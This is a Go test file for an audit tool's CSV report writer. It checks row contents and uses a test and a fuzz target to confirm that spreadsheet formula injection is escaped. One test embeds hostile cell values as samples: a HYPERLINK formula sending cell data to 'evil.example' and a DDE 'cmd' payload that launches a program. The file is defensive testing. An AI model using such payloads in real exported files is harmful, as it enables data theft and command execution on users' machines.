package csv

import (
	"bytes"
	"encoding/csv"
	"io"
	"os"
	"slices"
	"strings"
	"testing"

	"apigee-audit/audit/finding"
	"apigee-audit/internal/text"
	"apigee-audit/report"
	"apigee-audit/report/internal/reporttest"
)

// readCSV reads a report as programs do, by the names of its columns.
func readCSV(t *testing.T, d *report.Document) []map[string]string {
	t.Helper()
	return readSheet(t, Write, columns(), d)
}

// readSheet reads one of the tables.
func readSheet(t *testing.T, write func(io.Writer, *report.Document, report.Options) error, columns []string, d *report.Document) []map[string]string {
	t.Helper()
	data := reporttest.Write(t, write, report.Sanitized(d), report.Options{})
	if bytes.HasPrefix(data, []byte("\ufeff")) {
		t.Error("the report begins with a byte order mark")
	}
	all, err := csv.NewReader(bytes.NewReader(data)).ReadAll() // which wants as many cells in every row
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(all[0], columns) {
		t.Errorf("header is %q", all[0])
	}
	var rows []map[string]string
	for _, cells := range all[1:] {
		row := map[string]string{}
		for i, c := range cells {
			row[all[0][i]] = c
		}
		rows = append(rows, row)
	}
	return rows
}

func TestCSVHoldsEverything(t *testing.T) {
	d := reporttest.Compared()
	kinds := map[string]int{}
	for _, row := range readCSV(t, d) {
		kinds[row["type"]+" "+row["status"]]++
	}
	for kind, want := range map[string]int{
		"finding new": 1, "finding known": 1, "finding suppressed": 2, "finding fixed": 1, "finding not-looked-at": 1, "notice ": 1,
	} {
		if kinds[kind] != want {
			t.Errorf("%d rows of %q, want %d", kinds[kind], kind, want)
		}
	}
	rich := reporttest.Rich()
	if rows := readCSV(t, rich); len(rows) != len(rich.Findings)+len(rich.Problems)+len(rich.Notices)+len(rich.Organizations) {
		t.Errorf("%d rows", len(rows))
	}
}

func TestCSVCannotCalculate(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": `\t=1`, "\r=1": `\r=1`, "\n=1": `\n=1`,
		"  =1": "  '=1", `"=1`: `"'=1`, "＝1": "'＝1", "a;=1": "a;'=1", "a; =1": "a; '=1", `a;"=1`: `a;"'=1`, "a=1": "a=1", "a, -1": "a, -1",
		"": "", "plain": "plain", "é": "é",
	} {
		if got := harmlessCell(text.Sanitize(in)); got != want {
			t.Errorf("%q becomes %q, want %q", in, got, want)
		}
	}
	f := reporttest.NeverRefreshed()
	f.Name = `=HYPERLINK("https://evil.example/?x="&A1)` + "\r\n\"=cmd|' /C calc'!A0"
	row := findingRow(report.Sanitized(&f), "new")
	if got := harmlessCell(row["name"]); !strings.HasPrefix(got, "'=") || strings.ContainsAny(got, "\r\n") {
		t.Errorf("the name becomes %q", got)
	}
}

// No cell of a hostile report may start what a spreadsheet calculates.
func FuzzCSVCell(f *testing.F) {
	f.Add("=1")
	f.Add(" ;@x")
	f.Fuzz(func(t *testing.T, in string) {
		for part := range strings.SplitSeq(harmlessCell(in), ";") {
			if cell := strings.TrimLeft(part, ` "`); cell != "" && strings.ContainsRune(formulaStarts, []rune(cell)[0]) {
				t.Errorf("%q becomes %q", in, part)
			}
		}
	})
}

func TestCSVDeployments(t *testing.T) {
	f := reporttest.NeverRefreshed()
	f.Deployments = []finding.Deployed{{Environment: "dev", Revision: "9"}, {Environment: "dev", Revision: "12"}, {Environment: "prod", Revision: "12"}}
	if got := findingRow(&f, "new")["environments"]; got != "dev, prod" {
		t.Errorf("environments are %q", got)
	}
}

func TestCSVTellsWeaknesses(t *testing.T) {
	rows, err := csv.NewReader(bytes.NewReader(reporttest.Write(t, Write, report.Sanitized(reporttest.Rich()), report.Options{Rules: reporttest.Rules()}))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	rule, cwe := slices.Index(rows[0], "rule"), slices.Index(rows[0], "cwe")
	for _, row := range rows[1:] {
		want := map[string]string{"RT101": "CWE-613, CWE-1059", "RT106": "CWE-1059"}[row[rule]]
		if row[cwe] != want {
			t.Errorf("%s has %q, want %q", row[rule], row[cwe], want)
		}
	}
}

// docs/formats.md names every column that programs may rely on.
func TestColumnsAreDocumented(t *testing.T) {
	data, err := os.ReadFile("../../docs/formats.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range slices.Concat(columns(), inventoryColumns(), controlColumns()) {
		if !strings.Contains(string(data), "`"+name+"`") {
			t.Errorf("docs/formats.md lacks %s", name)
		}
	}
}

func TestCSVTellsFixes(t *testing.T) {
	f, g := reporttest.NeverRefreshed(), reporttest.InAnotherProxy()
	if got := findingRow(&f, "new")["fix"]; got != f.Fixes[0].Description {
		t.Errorf("%q", got)
	}
	if got := findingRow(&g, "new")["fix"]; got != "No fix: "+g.NoFix {
		t.Errorf("%q", got)
	}
}
